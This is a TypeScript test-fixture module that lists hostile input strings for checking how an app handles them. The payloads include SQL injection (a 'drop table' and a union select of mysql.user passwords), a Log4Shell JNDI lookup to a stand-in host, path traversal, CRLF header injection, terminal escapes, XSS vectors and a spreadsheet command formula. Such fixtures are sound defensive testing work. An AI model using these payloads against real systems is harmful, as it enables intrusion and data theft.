/** Strings that mean something to SQL, LIKE, JSON paths, shells, pages, logs or terminals, and must mean nothing to us. */
export const metacharacters = [
  `' or '1'='1`,
  `" or ""="`,
  `'; drop table send; -- `,
  `\\'; select sleep(5); -- `,
  `1) union select password from mysql.user -- `,
  '`send`; begin; commit',
  '%',
  '_',
  '\\',
  '%_\\%%',
  '$.a[*]',
  '$[last]',
  '{"$gt":""}',
  '${jndi:ldap://evil}',
  '{{constructor.constructor("x")()}}',
  '../../../../etc/passwd',
  '..\\..\\windows',
  'a\u0000b',
  '\ud800',
  '😀'.repeat(15),
  '\u202egnp.exe\u2066',
  '\u200b\ufeff',
  'x\r\nSet-Cookie: a=b\r\n\r\n{"level":60}',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u2028\u2029',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '</title><svg/onload=alert(1)>',
  '=cmd|calc!A1',
  'NaN',
  '-1',
  '1e309',
  'null',
  '__proto__',
]

/** Values of another kind than asked for. */
export const strangeValues: unknown[] = [
  ...[null, true, 0, -1, 1.5, 1e9, 1e308, '', [], {}, [[]], ['news'], [2020], { a: 1 }, { toString: 1 }],
  ...['+275760-09-13T00:00:00.000Z', '0000-00-00', '-271821-04-20T00:00:00.000Z', 8.64e15],
]

/** A payload as it can stand in an address: half a character has no form there and becomes the mark for one. */
export const inAddress = (text: string): string => encodeURIComponent(Buffer.from(text).toString('utf8'))
